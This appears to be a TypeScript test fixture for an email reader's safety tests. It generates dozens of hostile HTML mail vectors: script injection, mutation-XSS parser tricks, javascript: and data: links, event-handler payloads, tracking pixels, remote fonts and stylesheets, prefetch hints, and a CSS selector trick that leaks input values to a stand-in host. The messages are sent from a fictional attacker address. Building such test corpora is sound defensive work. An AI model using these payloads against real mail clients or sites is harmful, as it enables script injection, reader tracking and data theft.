/**
 * A corpus of hostile mail HTML for the reader's safety spec. Each vector, if it worked,
 * would either run script (which logs "tern-marker" and fetches <origin>/script-N) or
 * fetch something from <origin> before the reader consented (tracking pixels, fonts,
 * stylesheets, preconnect and prefetch hints, frames, refreshes, forms). Grouped by kind,
 * generated where a family differs only by property or event name.
 */
const cssUrlProperties = [
  'background', 'background-image', 'border-image', 'border-image-source', 'list-style', 'list-style-image',
  'cursor', 'content', 'mask', 'mask-image', '-webkit-mask-image', 'shape-outside', 'filter',
];

const eventHandlers = [
  'onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'ontransitionend',
  'onpointerenter', 'onbegin', 'ontoggle', 'onscroll', 'onwheel', 'onauxclick', 'onbeforeprint',
];

export function hostileVectors(origin: string): string[] {
  const script = (n: number) => `console.log('tern-marker-${n}');fetch('${origin}/script-${n}')`;
  const vectors: ((n: number) => string)[] = [
    // Script in every wrapper the parser knows.
    (n) => `<script>${script(n)}</script>`,
    () => `<script src="${origin}/external.js"></script>`,
    (n) => `<svg><script>${script(n)}</script></svg>`,
    (n) => `<svg><script href="data:text/javascript,${encodeURIComponent(script(n))}"></script></svg>`,
    (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${script(n)}"></style></mglyph></table></mtext></math>`,
    (n) => `<noscript><p title="</noscript><img src=x onerror=&quot;${script(n)}&quot;>"></p></noscript>`,
    (n) => `<svg></p><style><a id="</style><img src=1 onerror=${script(n)}>">`,
    (n) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${script(n)} src>">`,
    (n) => `<template><script>${script(n)}</script></template>`,
    (n) => `<iframe srcdoc="<script>${script(n)}</script>"></iframe>`,
    () => `<iframe src="${origin}/frame"></iframe>`,
    () => `<frameset><frame src="${origin}/frame2"></frameset>`,
    () => `<object data="${origin}/object"></object>`,
    () => `<embed src="${origin}/embed">`,
    () => `<portal src="${origin}/portal"></portal>`,
    (n) => `<a href="javascript:${script(n)}">js link</a>`,
    (n) => `<a href="jav&#x09;ascript:${script(n)}">obfuscated link</a>`,
    (n) => `<a href="data:text/html,<script>${script(n)}</script>">data link</a>`,
    (n) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script(n)}'/>">`,
    (n) => `<form action="${origin}/form-${n}"><input name="q" value="x"><button>Go</button></form>`,
    (n) => `<button formaction="javascript:${script(n)}">Click</button>`,
    () => `<meta http-equiv="refresh" content="0;url=${origin}/refresh">`,
    () => `<base href="${origin}/"><img src="relative.gif">`,
    // Remote fetches that track the reader.
    () => `<img src="${origin}/pixel.gif" width="1" height="1">`,
    () => `<img src="//${origin.replace(/^https?:\/\//, '')}/protocol-relative.gif">`,
    () => `<img srcset="${origin}/srcset-1x.png 1x, ${origin}/srcset-2x.png 2x">`,
    () => `<picture><source srcset="${origin}/picture.webp"><img alt="p"></picture>`,
    () => `<video poster="${origin}/poster.png"></video>`,
    () => `<video src="${origin}/video.mp4" autoplay></video>`,
    () => `<audio src="${origin}/audio.mp3" autoplay></audio>`,
    () => `<video><track src="${origin}/track.vtt"></video>`,
    () => `<input type="image" src="${origin}/input.png">`,
    () => `<table background="${origin}/table.png"><tr><td background="${origin}/td.png">x</td></tr></table>`,
    () => `<body background="${origin}/body.png">`,
    () => `<a href="${origin}/page" ping="${origin}/ping">tracked link</a>`,
    () => `<link rel="stylesheet" href="${origin}/sheet.css">`,
    () => `<link rel="preconnect" href="${origin}">`,
    () => `<link rel="dns-prefetch" href="${origin}">`,
    () => `<link rel="prefetch" href="${origin}/prefetch">`,
    () => `<link rel="preload" as="image" href="${origin}/preload.png">`,
    () => `<link rel="modulepreload" href="${origin}/module.js">`,
    () => `<link rel="icon" href="${origin}/favicon.ico">`,
    () => `<style>@import "${origin}/import.css";</style>`,
    () => `<style>@import url(${origin}/import-url.css);</style>`,
    () => `<style>@font-face{font-family:T;src:url(${origin}/font.woff2)} p{font-family:T}</style><p>font</p>`,
    () => `<style>p{background:\\75rl(${origin}/escaped.png)}</style><p>escaped</p>`,
    () => `<style>input[value^="a"]{background:url(${origin}/exfil-a)}</style><input value="abc">`,
    () => `<svg><image href="${origin}/svg-image.png" width="10" height="10"/></svg>`,
    () => `<svg><image xlink:href="${origin}/svg-xlink.png" width="10" height="10"/></svg>`,
    () => `<svg><use href="${origin}/sprite.svg#icon"/></svg>`,
    () => `<svg><filter id="f"><feImage href="${origin}/feimage.png"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>`,
    () => `<div style="background:url('${origin}/quoted-url.png')">quoted url</div>`,
    () => `<img src="${origin}/lazy.png" loading="lazy">`,
    () => `<img src="cid:logo@shop" alt="cid image stays local">`,
    () => `<div style="background-image:image-set('${origin}/image-set-1x.png' 1x)">image-set</div>`,
    () => `<div style="background-image:-webkit-image-set(url(${origin}/webkit-image-set.png) 1x)">webkit image-set</div>`,
    (n) => `<svg><a href="javascript:${script(n)}"><text y="10">svg link</text></a></svg>`,
    (n) => `<marquee onstart="${script(n)}">marquee</marquee>`,
    (n) => `<xmp><img src=x onerror="${script(n)}"></xmp>`,
    (n) => `<select autofocus onfocus="${script(n)}"><option>o</option></select>`,
  ];
  for (const property of cssUrlProperties) vectors.push(() => `<div style="${property}: url(${origin}/css-${property}.png)">${property}</div>`);
  for (const property of cssUrlProperties) vectors.push(() => `<style>.v{${property}:url("${origin}/sheet-${property}.png")}</style><div class="v">${property}</div>`);
  for (const handler of eventHandlers) vectors.push((n) => `<img src="x" ${handler}="${script(n)}"><svg ${handler}="${script(n)}"></svg><details open ${handler}="${script(n)}">d</details>`);
  return vectors.map((vector, n) => vector(n));
}

export function hostileMessage(n: number, vector: string, date: Date): string {
  return [
    'From: Mallory <mallory@evil.example>',
    'To: alice@example.org',
    `Subject: Vector ${n}`,
    `Date: ${date.toUTCString()}`,
    `Message-ID: <vector-${n}@evil.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<html><body><h1>Vector ${n}</h1>${vector}</body></html>`,
  ].join('\n');
}
